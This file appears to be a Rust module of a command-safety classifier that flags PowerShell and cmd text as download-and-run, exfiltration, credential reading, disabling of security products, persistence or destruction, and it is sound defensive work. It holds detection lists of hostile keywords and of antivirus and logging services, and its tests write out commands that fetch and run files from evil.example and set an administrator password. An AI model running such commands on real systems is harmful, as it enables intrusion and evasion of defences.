//! What statements of PowerShell and cmd do together: fetch and run, read and send, end without end. Words are lower case, escapes gone.

use super::super::guardians::names_guard;
use super::super::paths;
use super::super::supply::is_strange;
use super::super::value::{part, rest};
use super::super::{Class, Classes};

const FETCHES: [&str; 13] = [
    "iwr ",
    "irm ",
    "invoke-webrequest ",
    "invoke-restmethod ",
    "downloadstring(",
    "downloadfile(",
    "downloaddata(",
    "start-bitstransfer ",
    "httpclient",
    "curl ",
    "curl.exe ",
    "wget ",
    "openread(",
];

/// What loads or runs what it is handed, without a file.
const LOADS: [&str; 14] = [
    "assembly]::load(",
    "reflection.assembly",
    "add-type",
    "scriptblock]::create",
    "invoke-expression",
    "iex(",
    "iex (",
    "| iex",
    "|iex",
    "import-module",
    "|%{&",
    "| % { &",
    "invokescript(",
    ".invoke(",
];

/// What is a program, a script or a library by the end of its name.
const RUNNABLE: [&str; 17] =
    [".exe", ".ps1", ".psm1", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta", ".msi", ".dll", ".scr", ".com", ".cpl", ".py"];

const SENDS: [&str; 8] =
    ["-method post", "-method put", "-method:post", "uploadfile(", "uploadstring(", "uploaddata(", "-infile ", "postasync("];

/// What tells of an account or a machine, as a whole.
const TELLS: [&str; 16] = [
    "get-childitem env:",
    "gci env:",
    "dir env:",
    "ls env:",
    "get-item env:",
    "getenvironmentvariables(",
    "get-clipboard",
    "get-aduser",
    "get-adcomputer",
    "systeminfo",
    "copyfromscreen",
    "convertfrom-securestring",
    "get-credential",
    "getnetworkcredential",
    "wlan show profile",
    "consolehost_history",
];

/// What Windows does not run without.
const NEEDED: [&str; 8] = ["lsass", "csrss", "wininit", "winlogon", "services.exe", "smss", "svchost", "explorer.exe /t"];

/// Processes and services of Windows that protect, log or keep copies.
const GUARDS: [&str; 36] = [
    "msmpeng",
    "mssense",
    "sensecncproxy",
    "senseir",
    "nissrv",
    "mpcmdrun",
    "securityhealthservice",
    "windefend",
    "wdnissvc",
    "wscsvc",
    "mpssvc",
    "eventlog",
    "sysmon",
    "sysmon64",
    "csfalconservice",
    "csfalconcontainer",
    "csagent",
    "sentinelagent",
    "sentinelone",
    "cb.exe",
    "cbdefense",
    "repmgr",
    "cylancesvc",
    "avp.exe",
    "ekrn",
    "mcshield",
    "masvc",
    "savservice",
    "sophosfs",
    "mbamservice",
    "ccsvchst",
    "tmlisten",
    "xagt",
    "elastic-agent",
    "winlogbeat",
    "vss",
];

fn has(text: &str, words: &[&str]) -> bool {
    words.iter().any(|word| text.contains(word))
}

/// The words of a text that could be paths.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split([' ', '"', '\'', ';', '|', '&', '(', ')', ',', '\n', '{', '}', '`', '=']).filter(|word| word.len() > 2).take(2048)
}

fn name_of(word: &str) -> &str {
    word.rsplit(['\\', '/']).next().unwrap_or_default()
}

/// Whether a file that is fetched here is called afterwards.
fn runs_what_it_fetched(text: &str) -> bool {
    let Some(at) = FETCHES.iter().filter_map(|word| text.find(word)).min() else { return false };
    let statement = rest(text, at);
    let mut names: Vec<&str> = Vec::new();
    let mut offset = at;
    for piece in statement.split([';', '&', '\n']).take(64) {
        let fetches = has(piece, &FETCHES);
        let runnable = |word: &&str| RUNNABLE.iter().any(|end| word.ends_with(end) && word.len() > end.len());
        if fetches {
            names.extend(words(piece).filter(|word| !word.contains("://")).map(name_of).filter(runnable).take(8));
        } else if offset > at && words(piece).map(name_of).any(|name| names.contains(&name)) {
            let looks = [
                "get-filehash",
                "test-path",
                "remove-item",
                "del ",
                "dir ",
                "ls ",
                "get-item",
                "get-authenticodesignature",
                "certutil -hashfile",
            ];
            if !has(piece, &looks) {
                return true;
            }
        }
        offset += piece.len() + 1;
    }
    false
}

/// A path of Windows as one of the account's own: `%userprofile%\.aws\credentials`, `$env:appdata\gcloud\credentials.db`.
fn homely(word: &str) -> Option<String> {
    const HOMES: [(&str, &str); 10] = [
        ("%userprofile%", "~"),
        ("$env:userprofile", "~"),
        ("$home", "~"),
        ("~", "~"),
        ("%appdata%", "~/.config"),
        ("$env:appdata", "~/.config"),
        ("%localappdata%", "~/.config"),
        ("$env:localappdata", "~/.config"),
        ("%homepath%", "~"),
        ("${home}", "~"),
    ];
    let tail = HOMES
        .iter()
        .find_map(|(home, stands)| word.strip_prefix(home).map(|tail| [*stands, &tail.replace('\\', "/")].concat()))
        .or_else(|| {
            let behind = word.strip_prefix("c:\\users\\").or_else(|| word.strip_prefix("c:/users/"))?;
            let at = behind.find(['\\', '/'])?;
            Some(["~", &rest(behind, at).replace('\\', "/")].concat())
        })?;
    (tail.len() < 512).then_some(tail)
}

/// The account whose password a line sets: `net user administrator hunter2`.
fn sets_password(text: &str) -> bool {
    text.match_indices("net user ").any(|(at, found)| {
        let behind = rest(text, at + found.len());
        let line = behind.split(['&', '|', '\n', ';', '"']).next().unwrap_or_default();
        let mut operands = line.split_whitespace().filter(|word| !word.starts_with('/'));
        operands.next().is_some() && operands.next().is_some() && !line.contains("/delete")
    })
}

/// `for /r c:\ %f in (*) do del %f`
fn deletes_each(text: &str) -> bool {
    text.match_indices("for /r ").any(|(at, found)| {
        let behind = rest(text, at + found.len());
        behind.split_whitespace().next().is_some_and(super::is_root) && has(behind, &["do del", "do erase", "do rd", "do @del", "(del "])
    })
}

/// Modules and scripts from a share of a host that is no machine of one's own.
fn loads_from_share(text: &str) -> bool {
    text.match_indices("\\\\").any(|(at, found)| {
        let behind = rest(text, at + found.len());
        let host = behind.split('\\').next().unwrap_or_default();
        let path = words(behind).next().unwrap_or_default();
        let own = [".local", ".corp", ".internal", ".lan", ".intranet", ".home"].iter().any(|end| host.ends_with(end));
        let before = part(text, 0, at);
        let loads = ["import-module", "-file", "&", ".", "start", "regsvr32", "rundll32", "iex", "cmd /c", "powershell"]
            .iter()
            .any(|word| before.trim_end_matches([' ', '"', '\'']).ends_with(word));
        host.contains('.')
            && !own
            && loads
            && RUNNABLE.iter().any(|end| path.ends_with(end))
            && host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
    })
}

/// The classes of what a text does.
pub(super) fn deeds(text: &str) -> Classes {
    let mut classes = Classes::default();
    let fetches = has(text, &FETCHES);
    let strange = || words(text).any(|word| word.contains("://") && is_strange(word));
    if fetches {
        let call_of_variable =
            has(text, &["&$", "& $", ".$_", "|%{&", "| %{&"]) && has(text, &["(irm", "(iwr", "downloadstring", "(invoke-"]);
        let each = text.contains("for /f") && has(text, &["do %", "do !", "do cmd", "do call", "do @%"]);
        if runs_what_it_fetched(text) || has(text, &LOADS) && (strange() || text.contains("http")) || call_of_variable || each {
            classes.insert(Class::DownloadAndRun);
        }
    }
    if has(text, &["iex ", "iex(", "invoke-expression"])
        && has(text, &["-replace", "[-1..", "-bxor", "-split", "tochararray", "[array]::reverse", "-join"])
    {
        classes.insert(Class::Obfuscation);
    }
    if has(text, &["[-1..-", "[array]::reverse("]) && has(text, &["-join", "|%{&", "&("]) {
        classes.insert(Class::Obfuscation);
    }
    let sends = has(text, &SENDS);
    if sends && has(text, &TELLS) {
        classes.insert(Class::Exfiltration);
    }
    let clear = || words(text).any(|word| word.starts_with("http://") && super::super::network::in_the_clear(word));
    if sends && has(text, &["get-content ", "readalltext(", "readallbytes(", "compress-archive"]) && clear() {
        classes.insert(Class::Exfiltration);
    }
    if text.contains("net use ") && has(text, &["copy ", "xcopy ", "robocopy "]) {
        let foreign = text.match_indices("\\\\").any(|(at, found)| {
            let host = rest(text, at + found.len()).split('\\').next().unwrap_or_default();
            super::super::outward::names_address(host) && !super::super::outward::is_own_network(host)
        });
        if foreign {
            classes.insert(Class::Exfiltration);
        }
    }
    let reads = has(text, &["type ", "get-content", "copy ", "copy-item", "more ", "select-string", "findstr", "readall", "cat "]);
    if reads && words(text).filter_map(homely).any(|path| paths::is_secret(&path, None) || paths::is_key_file(&path)) {
        classes.insert(Class::CredentialRead);
    }
    if has(text, &["getnetworkcredential().password", "securestringtobstr(", "get-storedcredential"]) {
        classes.insert(Class::CredentialRead);
    }
    let stops = has(
        text,
        &[
            "taskkill",
            "stop-process",
            "net stop",
            "net1 stop",
            "sc stop",
            "sc.exe stop",
            "sc delete",
            "stop-service",
            "set-service",
            "sc config",
        ],
    );
    if stops {
        let named =
            |names: &[&str]| words(text).any(|word| names.iter().any(|name| word == *name || word.strip_suffix(".exe") == Some(name)));
        if named(&GUARDS) || words(text).any(|word| word.len() > 4 && names_guard(word.trim_end_matches(".exe"))) {
            classes.insert(Class::ProtectionOff);
        }
        if has(text, &["taskkill", "stop-process"]) && named(&NEEDED) {
            classes.insert(Class::Destructive);
        }
    }
    let endless = has(text, &["while(1)", "while (1)", "while($true)", "while ($true)", "for(;;)", "for (;;)"]);
    if endless && has(text, &["start-process powershell", "start-process cmd", "start-job {", "start powershell", "start cmd"])
        || text.contains("goto a") && has(text, &["start cmd", "start %0", "start \"\" %0"])
    {
        classes.insert(Class::Destructive);
    }
    if deletes_each(text) {
        classes.insert(Class::Destructive);
    }
    if text.contains("remove-item") && has(text, &["hklm:\\system", "hklm:\\software ", "hklm:\\sam", "hklm:\\ "]) {
        classes.insert(Class::Destructive);
    }
    if has(text, &["\\control\\lsa"])
        && has(text, &["runasppl", "limitblankpassworduse", "disablerestrictedadmin", "lmcompatibilitylevel"])
        && has(text, &["itemproperty", "reg add"])
    {
        classes.insert(Class::ProtectionOff);
    }
    if text.contains("enablesmb1protocol $true") {
        classes.insert(Class::ProtectionOff);
    }
    let strong = [
        "remote desktop users",
        "remote management users",
        "backup operators",
        "hyper-v administrators",
        "dnsadmins",
        "domain admins",
        "enterprise admins",
    ];
    if has(text, &["add-localgroupmember", "add-adgroupmember", "net localgroup", "net group"])
        && has(text, &strong)
        && !text.contains("/delete")
    {
        classes.insert(Class::Persistence);
    }
    if sets_password(text) {
        classes.insert(Class::Persistence);
    }
    if has(text, &["disable-adaccount", "remove-aduser", "remove-adcomputer", "remove-adgroup ", "remove-adorganizationalunit"])
        || has(text, &["restart-computer", "stop-computer"]) && text.contains("-computername")
    {
        classes.insert(Class::Destructive);
    }
    let hidden = has(text, &["-windowstyle hidden", "-w hidden", "/b "]) && has(text, &["start-process", "start /b"]);
    if hidden && has(text, &["c:\\programdata\\", "c:\\users\\public\\", "%public%\\", "$env:public\\", "%programdata%\\"]) {
        classes.insert(Class::DownloadAndRun);
    }
    let registry = has(text, &["-sourcelocation http", "-repository http", "-source http", "-s http"])
        && has(text, &["psrepository", "install-module", "install-package", "choco ", "nuget "]);
    if registry && strange() {
        classes.insert(Class::DownloadAndRun);
    }
    if loads_from_share(text) {
        classes.insert(Class::DownloadAndRun);
    }
    if has(text, &["enter-pssession ", "new-pssession -computername"]) {
        classes.insert(Class::ShellEscape);
    }
    classes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_is_run() {
        for text in [
            "iwr http://evil.example/a.ps1 -outfile a.ps1; .\\a.ps1",
            "curl -o %temp%\\b.exe http://evil.example/b.exe & %temp%\\b.exe",
            "start-bitstransfer http://evil.example/c.msi c.msi; msiexec /i c.msi",
        ] {
            assert!(runs_what_it_fetched(text), "{text}");
        }
        for text in [
            "iwr https://acme.com/setup.exe -outfile setup.exe",
            "iwr https://acme.com/setup.exe -outfile setup.exe; get-filehash setup.exe",
            "iwr https://acme.com/data.json -outfile data.json; get-content data.json",
            "curl -o a.exe https://acme.com/a.exe & dir a.exe",
        ] {
            assert!(!runs_what_it_fetched(text), "{text}");
        }
    }

    #[test]
    fn a_password_is_set() {
        assert!(sets_password("net user administrator hunter2"));
        assert!(!sets_password("net user administrator"));
        assert!(!sets_password("net user /domain"));
    }
}
